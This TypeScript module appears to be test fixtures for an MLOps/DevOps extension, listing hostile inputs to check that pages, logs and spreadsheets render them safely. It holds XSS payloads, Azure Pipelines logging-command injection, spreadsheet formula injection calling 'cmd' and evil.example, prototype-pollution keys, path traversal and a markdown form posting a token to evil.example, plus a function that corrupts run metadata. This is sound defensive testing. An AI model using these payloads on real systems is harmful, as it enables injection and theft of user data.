import type { Draft } from './draft';
import type { Random } from './random';
import type { Text } from './world';

/** Texts that do harm to a page, a log or a spreadsheet that takes them for its own. */
export const attacks: readonly string[] = [
  '<script>window.__attacked = true</script>',
  '<img src=x onerror="window.__attacked = true">',
  '"><svg/onload=window.__attacked=true>',
  "' onmouseover='window.__attacked=true' x='",
  'javascript:window.__attacked=true',
  '##vso[task.setvariable variable=attacked]true',
  '##[error]all is lost',
  '\u202egnp.exe\u202c\u2066safe\u2069',
  '=cmd|\u0027/c calc\u0027!A1',
  '+1+1;@SUM(1+1)*cmd',
  '\t=HYPERLINK("https://evil.example","click")',
  '-2+3"',
  '[click me](javascript:window.__attacked=true)',
  '![x](https://evil.example/pixel.png) <a href="data:text/html,<script>window.__attacked=true</script>">x</a>',
  '<iframe srcdoc="<script>parent.__attacked=true</script>"></iframe>',
  '__proto__',
  'constructor',
  'NaN',
  '-Infinity',
  '"quoted", \'single\', `back`, \\ and / and \n a new line \r and \u0000 nothing',
  '<style>*{display:none}</style>',
  '{{constructor.constructor("window.__attacked=true")()}}',
  '${window.__attacked=true}',
  `very long ${'n\u0303o end in sight '.repeat(60)}`,
  '\ud83d\ude08\u200b\u200e invisible',
  '../../../../_apis/projects?x=<b>',
];

/** A model card that tries everything markdown can carry. */
export const attackCard = [
  '# <img src=x onerror=window.__attacked=true>',
  '<script>window.__attacked = true</script>',
  '[a link](javascript:window.__attacked=true) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![pixel](https://evil.example/pixel.png) ![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<a href="vbscript:x" onclick="window.__attacked=true">x</a> <form action="https://evil.example"><input name=token></form>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__attacked=true&gt;">',
  '<details open ontoggle=window.__attacked=true><summary>x</summary></details>',
  '| a | b |\n| - | - |\n| <b onmouseover=window.__attacked=true>x</b> | `code` |',
  '<https://evil.example> and https://evil.example/auto',
  '```html\n<script>window.__attacked = true</script>\n```',
].join('\n\n');

/** Replaces every text by the next attack; the same text stays the same attack, so that what belongs together still does. */
export function attacking(): Text {
  const known = new Map<string, string>();
  return (plain, longest = 512) => {
    const attack = known.get(plain) ?? `${attacks[known.size % attacks.length] ?? ''} ${plain}`;
    known.set(plain, attack);
    return attack.slice(0, longest);
  };
}

export const harmless: Text = (plain, longest = 512) => plain.slice(0, longest);

/** Makes index or evidence of a run untrue, unreadable or of a version nobody knows. */
export function spoil(random: Random, { run, files }: Draft): void {
  const [property] = Object.keys(run.properties);
  const [attachment] = run.attachments;
  if (property === undefined || !attachment) return;
  const set = (value: string): void => void (run.properties[property] = { $type: 'System.String', $value: value });
  const index = JSON.stringify(run.properties[property]);
  const text = files.get(attachment.file) ?? '';
  const ways: [() => void, ...(() => void)[]] = [
    () => set('[{"name":"x","metrics":{"auc":NaN}}]'),
    () => set('{"__proto__":{"attacked":true}}'),
    () => set(`[${'['.repeat(3000)}`),
    () => set(`[{"name":"${'x'.repeat(9000)}"}]`),
    () => void (run.properties[property] = { $type: 'System.Int32', $value: 7 }),
    () => void (run.properties[property] = JSON.parse(index.replace(/[0-9a-f]{64}/, '0'.repeat(64))) as unknown),
    () => void files.set(attachment.file, text.replace(/"kind":"mlops\.([a-z-]+)\.v1"/, '"kind":"mlops.$1.v9"')),
    () => void files.set(attachment.file, text.slice(0, text.length / 2)),
    () => void files.set(attachment.file, `${text.slice(0, -1)},"promote":true,"extra":"<b>"}`),
    () => void files.set(attachment.file, ''),
  ];
  random.pick(ways)();
}
